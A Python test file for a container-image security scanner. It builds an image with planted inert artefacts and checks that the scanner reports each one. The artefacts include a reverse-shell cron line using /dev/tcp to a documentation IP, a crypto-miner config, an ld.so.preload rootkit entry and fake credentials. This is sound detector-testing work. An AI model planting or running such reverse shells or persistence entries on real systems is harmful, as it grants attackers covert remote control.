"""Every detector at once, over one image that plants an inert artefact of
every kind issue 4 names.

Each detector has its own, deeper test (test_malware.py, test_secrets.py,
test_integrity.py, test_persistence.py, test_unmanaged.py); this one is the
whole picture a user gets from `moat scan` with the default --scanners: an
image of three layers over a small Debian base, where

  layer 1 (the base) is clean: a package `hello` with its dpkg md5sums,
          stock passwd/shadow/sshd_config, and a root crontab;
  layer 2 plants the EICAR test file, a well-formed (random) RSA private key,
          an AWS key pair, a crypto-miner config, a reverse-shell cron line
          that never runs, an /etc/ld.so.preload entry, a modified copy of
          the package binary /usr/bin/hello, a setuid copy of a binary in a
          hidden directory, and a copied-in BusyBox binary with its banner;
  layer 3 deletes the AWS credentials file (still in layer 2: still leaked)
          and the EICAR file.

and the image config carries ENV DB_PASSWORD. The report must hold exactly
the expected findings (kind, rule id, path, layer, removed), nothing else;
the base layer alone, scanned as an image, must give no finding at all."""

import base64
import hashlib
import json
import random
import string

from util import MoatTest, main, run, scan_json, work

from mkimage import Image, Layer, debian_base

R = random.Random(20261126)
ALNUM = string.ascii_letters + string.digits


def rnd(n, cs=ALNUM):
    return "".join(R.choice(cs) for _ in range(n))


def pem(kind):
    body = base64.b64encode(bytes(R.getrandbits(8) for _ in range(900))).decode()
    return "-----BEGIN %s-----\n%s\n-----END %s-----\n" % (
        kind, "\n".join(body[i:i + 64] for i in range(0, len(body), 64)), kind)


# The EICAR test file (a published, harmless anti-malware test string),
# assembled from two halves so this source file does not itself trip scanners.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + r"ANTIVIRUS-TEST-FILE!$H+H*").encode()
AKID = "AKIA" + rnd(16, string.ascii_uppercase + string.digits)
AKSK = rnd(40, ALNUM + "+/")
DBPW = "Pw7" + rnd(13)
RSA_KEY = pem("RSA PRIVATE KEY")
MINER = json.dumps({
    "autosave": True, "donate-level": 1, "cpu": {"enabled": True},
    "pools": [{"algo": "rx/0", "url": "stratum+tcp://pool.invalid:3333",
               "user": "4" + "A" + rnd(93, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"),
               "pass": "x", "tls": False}]}, indent=2)
# an ELF-looking file: the header is enough for "executable"
HELLO = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"hello, world\0" + bytes(range(256)) * 8
HELLO_TAMPERED = HELLO.replace(b"hello, world", b"hello, w0rld")
BUSYBOX = (b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\0" * 64 +
           b"BusyBox v1.36.1 (2023-07-27 17:12:24 UTC) multi-call binary.\0" + b"\0" * 64)

PASSWD = ("root:x:0:0:root:/root:/bin/bash\n"
          "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n")
SHADOW = "root:*:19683:0:99999:7:::\ndaemon:*:19683:0:99999:7:::\nnobody:*:19683:0:99999:7:::\n"
SSHD = ("Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\n"
        "UsePAM yes\nX11Forwarding yes\nPrintMotd no\nAcceptEnv LANG LC_*\n"
        "Subsystem sftp /usr/lib/openssh/sftp-server\n")
CRONTAB = ("SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
           "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")


def base_layer():
    pkgs = [{"Package": "base-files", "Version": "12.4+deb12u5"},
            {"Package": "hello", "Version": "2.10-3", "Installed-Size": "100"}]
    l = debian_base(pkgs)
    l.dir("usr/bin").file("usr/bin/hello", HELLO, mode=0o755)
    l.dir("var/lib/dpkg/info")
    l.file("var/lib/dpkg/info/hello.list", "/.\n/usr\n/usr/bin\n/usr/bin/hello\n")
    l.file("var/lib/dpkg/info/hello.md5sums",
           "%s  usr/bin/hello\n" % hashlib.md5(HELLO).hexdigest())
    l.file("etc/passwd", PASSWD).file("etc/shadow", SHADOW, mode=0o640)
    l.dir("etc/ssh").file("etc/ssh/sshd_config", SSHD)
    l.file("etc/crontab", CRONTAB)
    return l


def plant_layer():
    l = Layer().dir("srv").dir("root").dir("opt").dir("etc/cron.d").dir("var/tmp")
    l.file("srv/eicar.com", EICAR)
    l.dir("root/.ssh").file("root/.ssh/id_rsa", RSA_KEY, mode=0o600)
    l.dir("root/.aws").file("root/.aws/credentials",
                            "[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n"
                            % (AKID, AKSK), mode=0o600)
    l.dir("opt/.cache").file("opt/.cache/config.json", MINER)
    l.file("etc/cron.d/sync", "* * * * * root bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n")
    l.file("etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
    l.file("usr/bin/hello", HELLO_TAMPERED, mode=0o755)
    l.dir("var/tmp/.x").file("var/tmp/.x/hello", HELLO, mode=0o4755)
    l.dir("usr/local/bin").file("usr/local/bin/busybox", BUSYBOX, mode=0o755)
    return l


def delete_layer():
    return Layer().whiteout("root/.aws/credentials").whiteout("srv/eicar.com")


def config():
    return {"Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "DB_PASSWORD=" + DBPW],
            "Cmd": ["/bin/sh"], "User": "root"}


def brief(report):
    """(kind, id, path, layer index, removed) of each finding that is not a
    vulnerability advisory and not a configuration check."""
    out = set()
    for f in report["findings"]:
        if f["kind"] in ("vulnerability", "config"):
            continue
        out.add((f["kind"], f["id"], f["path"],
                 f["layer"]["index"] if f["layer"] else None, f["removed"]))
    return out


class Detectors(MoatTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.target = "oci:" + work("planted")
        Image([base_layer(), plant_layer(), delete_layer()], config=config()).oci_layout(
            work("planted"), tag="latest")
        cls.clean = "oci:" + work("clean")
        Image([base_layer()], config={"Cmd": ["/bin/sh"], "User": "nobody"}).oci_layout(
            work("clean"), tag="latest")
        cls.report = scan_json(cls.target)

    def test_exact_findings(self):
        got = brief(self.report)
        for g in sorted(got, key=str):
            print("  finding:", g)
        self.assertEqual(got, EXPECTED)

    def test_clean_base_gives_nothing(self):
        r = scan_json(self.clean)
        self.assertEqual([f for f in r["findings"] if f["kind"] != "config"], [])

    def test_no_secret_shown_whole(self):
        _, out, _ = run("scan", "--no-vulns", "--format", "json", self.target)
        _, table, _ = run("scan", "--no-vulns", "--color", "never", self.target)
        for secret in (AKID, AKSK, DBPW, RSA_KEY.splitlines()[1]):
            self.assertNotIn(secret, out)
            self.assertNotIn(secret, table)

    def test_findings_name_layer_digest(self):
        for f in self.report["findings"]:
            if f["layer"] is not None:
                self.assertTrue(f["layer"]["digest"].startswith("sha256:"), f)

    def test_busybox_is_an_unmanaged_package(self):
        bb = [p for p in self.report["packages"] if p["name"] == "busybox"]
        self.assertEqual(len(bb), 1, bb)
        self.assertEqual(bb[0]["version"], "1.36.1")
        self.assertEqual(bb[0]["purl"], "pkg:generic/busybox@1.36.1")


# Filled from the detectors' rule ids (docs/DETECTORS.md); layer indexes
# count from 0 (the base), None is the image config.
EXPECTED = {
    # layer 1: the modified package binary (dpkg md5sums of layer 0)
    ("integrity", "pkg-file-modified", "/usr/bin/hello", 1, False),
    # EICAR, deleted by layer 2 but still in layer 1's blob
    ("malware", "moat.eicar_test_file", "/srv/eicar.com", 1, True),
    # the miner config: the xmrig settings and the pool + wallet pair
    ("malware", "moat.miner_config_xmrig", "/opt/.cache/config.json", 1, False),
    ("malware", "moat.miner_pool_wallet", "/opt/.cache/config.json", 1, False),
    # the reverse-shell cron line: malware (the script) and persistence (cron runs it)
    ("malware", "moat.reverse_shell_dev_tcp", "/etc/cron.d/sync", 1, False),
    ("persistence", "persistence.reverse-shell", "/etc/cron.d/sync", 1, False),
    ("persistence", "persistence.ld-so-preload", "/etc/ld.so.preload", 1, False),
    ("persistence", "persistence.setuid-hidden", "/var/tmp/.x/hello", 1, False),
    # secrets: the AWS pair deleted by layer 2 (still recoverable), the key, the ENV
    ("secret", "aws-access-key-id", "/root/.aws/credentials", 1, True),
    ("secret", "aws-secret-access-key", "/root/.aws/credentials", 1, True),
    ("secret", "private-key", "/root/.ssh/id_rsa", 1, False),
    ("secret", "config-env-secret", None, None, False),
}

if __name__ == "__main__":
    main()
